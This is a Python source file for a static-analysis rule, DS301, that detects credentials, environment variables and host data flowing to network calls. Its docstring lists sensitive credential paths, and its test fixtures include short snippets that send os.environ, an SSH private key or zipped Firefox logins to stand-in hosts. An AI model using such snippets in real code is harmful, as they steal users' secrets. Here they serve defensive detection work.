"""DS301 sensitive-data-to-network: credentials, environment, host or surveillance data reaching a network sink."""

from __future__ import annotations

from datasec_scan.lazycst import cst

from datasec_scan.model import Category, Confidence, Severity
from datasec_scan.rule import Example, Rule

from ._outbound import (
    RISK_TEXT,
    Analyzer,
    host_risk,
    known_provider,
    label_severity,
    label_text,
    may_send_data,
    metadata_host,
    provider_hosts_match,
)
from ._prescreen import CodeTextScreen


class SensitiveDataToNetwork(CodeTextScreen, Rule):
    """Sensitive data (credentials, the environment, host fingerprints, keystrokes...) reaches a network sink.

    ## What it does
    Follows data from sensitive sources to calls that send it off the machine, through variables,
    containers, f-strings, `json`/`base64`/`zlib` transforms, helper functions, methods of the
    module's classes (called on `self`, on an instance or on the class), threads and `atexit` hooks
    of the same module. A webhook message built up in parts (`hook.add_file(...)`,
    `hook.add_embed(DiscordEmbed(description=...))`, then `hook.execute()`) carries what was added.

    Sources: the whole environment (`os.environ`, `dict(os.environ)`, `os.environ.items()`), single
    environment variables, reads of credential files (`~/.ssh/*`, `~/.aws/credentials`, `~/.netrc`,
    `~/.pypirc`, `~/.git-credentials`, `~/.docker/config.json`, `~/.kube/config`...), browser
    password and cookie stores, Discord/Telegram token stores, crypto wallets, `/etc/passwd` and
    `/etc/shadow`, host fingerprints (`socket.gethostname`, `getpass.getuser`, `uuid.getnode`,
    public-IP lookups, `whoami`/`wmic`/`hostname` output), clipboard, keystrokes, screenshots, camera
    and microphone, cloud credentials from instance metadata services, `browser_cookie3`/`netrc`/
    `keyring` reads. Folder walks (`os.walk`, `glob`, `os.listdir`), copies and archives
    (`shutil.make_archive`, `zipfile`, `tarfile` into a buffer) of such paths carry their data.
    Sinks: `requests`/`httpx`/`aiohttp`/`urllib`/`urllib3`/`http.client` (body, params, headers,
    URL), sockets, `smtplib`, `ftplib`, `paramiko` SFTP, `curl`/`wget`/`nc` subprocesses,
    webhook clients, cloud uploads, MongoDB writes. (Data smuggled in DNS names is DS304's.)

    Severity follows what flows: credential files, browser and wallet stores are **critical**; the
    whole environment, secret-named variables (`*TOKEN*`, `*KEY*`, `*SECRET*`, `*PASS*`,
    `*CREDENTIAL*`, `*AUTH*`, `AWS_*`), `/etc/shadow` and surveillance data are **high**;
    identifying host data is **medium**; one non-secret variable (`GITHUB_SHA`) or coarse platform
    facts are **low**. A hard-coded raw IP, webhook, paste site, request catcher, tunnel or dynamic-DNS
    destination raises the severity one level.

    Not reported: a secret-named variable sent to a destination that comes from configuration
    (a variable, parameter or attribute rather than a literal) or to a literal host of the service
    the variable is named after (`GITHUB_TOKEN` to `api.github.com`, `ACME_API_KEY` to
    `api.acme.example`) — that is an API client authenticating. Environment variables in the
    credential positions of a client (`auth=`, `headers=`, `cookies=`, `smtp.login(...)`) are not
    reported either, unless the host is high-risk, or the variable belongs to a known service
    (`GITHUB_TOKEN`, `AWS_*`, `NPM_TOKEN`...) and the literal host is not that service's: **medium**.
    A stored login in those positions (`auth=` from `~/.docker/config.json`) is **medium**, and not
    reported when read through an API (`cookies=browser_cookie3.chrome(...)`). One credential looked
    up through an API (`netrc.netrc().authenticators(host)`, `keyring.get_password`) and sent to an
    endpoint the program is given rather than a literal one is at most **medium**: a client logging in
    to the host it looked the credential up for; an identity file given
    to `ssh -i` / `scp -i` is how the tool logs in, not data.

    ## Why is this bad?
    Stealing credentials, tokens and the environment of CI runners and developer machines is what
    most malicious packages do; a legitimate library has no reason to ship a user's SSH keys or
    environment anywhere.

    ## Example
    ```python
    import os, requests
    requests.post("https://203.0.113.7/c", json=dict(os.environ))
    ```

    ## How to fix
    Remove the transfer. If the project must send such data, send only what the service needs to a
    disclosed destination, and document it (`datasec-scan egress` prints the inventory).

    ## References
    - CWE-200: Exposure of Sensitive Information to an Unauthorized Actor
    - CWE-359: Exposure of Private Personal Information to an Unauthorized Actor
    - MITRE ATT&CK T1041 Exfiltration Over C2 Channel, T1552 Unsecured Credentials
    """

    code = "DS301"
    name = "sensitive-data-to-network"
    category = Category.OUTBOUND_DATA
    severity = Severity.HIGH
    confidence = Confidence.MEDIUM
    cwe = (200, 359)
    attack = ("T1041", "T1552")
    VALID = (
        "import os, requests\nrequests.get(os.environ['API_URL'] + '/health')\n",
        "import os, requests\nrequests.post(os.environ['TOKEN_URL'], data={'client_secret': os.environ['CLIENT_SECRET']})\n",
        "import requests\nrequests.post('https://telemetry.example.com/v1', json={'version': '1.2.3'})\n",
        "import socket, logging\nlogging.info('running on %s', socket.gethostname())\n",
        "import os, subprocess\nsubprocess.run(['ssh', '-i', os.path.expanduser('~/.ssh/deploy'), 'u@example.com', 'ls'])\n",
    )
    INVALID = (
        "import os, requests\nrequests.post('https://example.com/c', json=dict(os.environ))\n",
        ("import os, requests\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
         "requests.post('https://example.com/k', data=key)\n"),
        Example("import os, socket, requests\n\ndef collect():\n    return {'host': socket.gethostname(), "
                "'env': dict(os.environ)}\n\ndef send(data):\n    requests.post('http://203.0.113.9/', json=data)\n\n"
                "send(collect())\n"),
        ("import os, zipfile, requests\nwith zipfile.ZipFile('b.zip', 'w') as z:\n"
         "    z.write(os.path.join(os.getenv('APPDATA'), 'Mozilla', 'Firefox', 'Profiles', 'x', 'logins.json'))\n"
         "requests.post('https://example.com/u', files={'f': open('b.zip', 'rb')})\n"),
    )

    @classmethod
    def triggered_by(cls, text: str) -> bool:
        """Necessary for a report: a network call that can carry data (not only a connect or a DNS lookup), see
        `_outbound`'s pre-screens."""
        return may_send_data(text)

    def __init__(self, context) -> None:  # type: ignore[no-untyped-def]
        super().__init__(context)
        self._analyzer: Analyzer | None = None

    @property
    def analyzer(self) -> Analyzer:
        if self._analyzer is None:
            self._analyzer = Analyzer.of(self.context)
        return self._analyzer

    def visit_Call(self, node: cst.Call) -> None:
        sink = self.analyzer.sink(node)
        if sink is None or sink.spec.connects or sink.spec.dns or (
                sink.spec.destination == "command" and self.analyzer.command_name_args(node)):
            return  # DNS names carrying data are DS304's (also when `nslookup`/`dig`/`ping` looks them up)
        flows = self.analyzer.data_taints(sink)
        if not flows:
            return
        dests = self.analyzer.destinations(sink)
        risks = sorted({r for r in (host_risk(d.host, d.path) for d in dests) if r})
        best = None
        others: list[str] = []
        for role, taint in flows:
            severity = self._severity(taint.label, role, dests, bool(risks))
            if severity is None:
                continue
            if best is None or severity > best[0] or (severity == best[0] and len(taint.steps) < len(best[2].steps)):
                if best is not None:
                    others.append(best[2].label)
                best = (severity, role, taint)
            else:
                others.append(taint.label)
        if best is None:
            return
        severity, role, taint = best
        dest_text = ", ".join(sorted({d.text() for d in dests})) or "unknown destination"
        where = f" ({RISK_TEXT[risks[0]]})" if risks else ""
        extra = sorted({label_text(o) for o in others if o != taint.label})
        also = f"; also {', '.join(extra)}" if extra else ""
        message = (f"{label_text(taint.label)} reaches {sink.method}() [{role}] sending to {dest_text}{where}{also}")
        confidence = Confidence.LOW if sink.spec.library == "(by method name)" else (
            Confidence.HIGH if severity >= Severity.CRITICAL else Confidence.MEDIUM)
        self.report(node, message, severity=severity, confidence=confidence,
                    flow=taint.steps + ((node, f"sink: sent by {sink.method}() to {dest_text}"),))

    @staticmethod
    def _severity(label: str, role: str, dests, risky: bool) -> Severity | None:  # type: ignore[no-untyped-def]
        severity = label_severity(label)
        kind, _, var = label.partition(":")
        if kind == "cloud-credentials" and dests and all(metadata_host(d.host) for d in dests):
            return None  # the metadata service's own answers, sent back to it (the role name in the next URL)
        if role == "credentials" and not risky and severity >= Severity.CRITICAL:
            # `cookies=browser_cookie3.chrome(...)`, `auth=` from netrc or the Docker config: a client logging in with
            # the user's own stored credentials (a reading API: not reported; a file: medium, the file is named)
            return None if var == "api" else Severity.MEDIUM
        if var == "api" and not risky and not any(d.known for d in dests):
            # one stored credential looked up by API (`netrc.authenticators(host)`, `keyring.get_password`) and handed
            # to an endpoint the program is given: how a client logs in to the host it looked the credential up for
            return min(severity, Severity.MEDIUM)
        if kind in ("env", "env-secret") and role == "credentials" and not risky:
            # A client authenticating (auth=, headers=, cookies=, .login()): reported only when a variable of a
            # known service (GITHUB_TOKEN) goes to a literal host that is not that service's.
            known = [d for d in dests if d.known]
            if kind == "env-secret" and known and known_provider(var) and not all(
                    provider_hosts_match(var, d.host) for d in known):
                return Severity.MEDIUM
            return None
        if kind == "env-secret":
            known = [d for d in dests if d.known]
            if not known:
                return None  # a secret handed to a configured endpoint: an API client authenticating
            if not risky and all(provider_hosts_match(var, d.host) for d in known):
                return None
        if risky:
            severity = severity.raised()
        return severity
